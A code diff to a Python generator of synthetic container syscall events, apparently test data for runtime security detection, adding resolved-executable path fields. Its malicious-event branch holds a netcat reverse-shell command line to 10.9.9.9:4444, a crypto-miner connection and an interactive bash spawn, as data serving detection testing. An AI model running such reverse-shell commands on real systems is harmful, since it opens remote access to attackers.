@@ -61,6 +61,7 @@ def _base(rng: random.Random, c: tuple[Any, ...], pid: int) -> dict[str, Any]:
         "evt.dir": "<", "evt.rawres": 0, "evt.res": "SUCCESS", "evt.failed": False, "thread.tid": pid,
         "proc.exe": exe, "proc.exe_written": False, "proc.exe_drift": None, "proc.is_exe_from_memfd": False,
         "proc.pexepath": "/usr/bin/containerd-shim-runc-v2" if pid % 7 == 0 else exe,
+        "proc.exe_resolved": exe, "proc.pexe_resolved": "/usr/bin/containerd-shim-runc-v2" if pid % 7 == 0 else exe,
     }
     if cid != "host":
         f.update({"container.name": name, "container.image.repository": repo, "container.image.tag": tag,
@@ -90,7 +91,9 @@ def benign(rng: random.Random, t: int) -> Event:
         n, exe, cmd = rng.choice(HEALTH)
         f.update({"evt.type": etype, "proc.name": n, "proc.exepath": exe, "proc.cmdline": cmd,
                   "proc.args": cmd.split(" ", 1)[1], "proc.pname": "runc" if n == "sh" else "sh",
-                  "proc.exe": exe, "proc.pexepath": "/usr/bin/runc" if n == "sh" else "/bin/sh"})
+                  "proc.exe": exe, "proc.pexepath": "/usr/bin/runc" if n == "sh" else "/bin/sh",
+                  "proc.exe_resolved": "/usr/bin/dash" if n == "sh" else exe,
+                  "proc.pexe_resolved": "/usr/sbin/runc" if n == "sh" else "/usr/bin/dash"})
     elif r < 0.84:
         etype = "accept4"
         f.update({"evt.type": etype, "fd.sip": "172.17.0.2", "fd.sport": 80, "fd.cip": "10.0.0.5", "fd.cport": 51234,
@@ -123,15 +126,17 @@ def malicious(rng: random.Random, t: int) -> Event:
     elif kind == 1:
         f.update({"evt.type": "execve", "proc.name": "nc", "proc.exepath": "/bin/nc", "proc.args": "-e /bin/sh 10.9.9.9 4444",
                   "proc.cmdline": "nc -e /bin/sh 10.9.9.9 4444", "proc.pname": "sh", "proc.exe": "/bin/nc",
-                  "proc.pexepath": "/bin/sh"})
+                  "proc.pexepath": "/bin/sh", "proc.exe_resolved": "/usr/bin/nc.openbsd",
+                  "proc.pexe_resolved": "/usr/bin/dash"})
     elif kind == 2:
         f.update({"evt.type": "connect", "fd.sip": "45.9.148.99", "fd.sport": 3333, "proc.name": "xmrig"})
     elif kind == 3:
         f.update({"evt.type": "execve", "proc.name": "x", "proc.exepath": "/tmp/x", "proc.is_exe_upper_layer": True,
-                  "proc.cmdline": "/tmp/x", "proc.args": "", "proc.exe": "/tmp/x"})
+                  "proc.cmdline": "/tmp/x", "proc.args": "", "proc.exe": "/tmp/x", "proc.exe_resolved": "/tmp/x"})
     else:
         f.update({"evt.type": "execve", "proc.name": "bash", "proc.exepath": "/bin/bash", "proc.cmdline": "bash -i",
-                  "proc.args": "-i", "proc.pname": rng.choice(c[4]), "proc.exe": "/bin/bash"})
+                  "proc.args": "-i", "proc.pname": rng.choice(c[4]), "proc.exe": "/bin/bash",
+                  "proc.exe_resolved": "/usr/bin/bash"})
     return Event(str(f["evt.type"]), t, f)
 
 
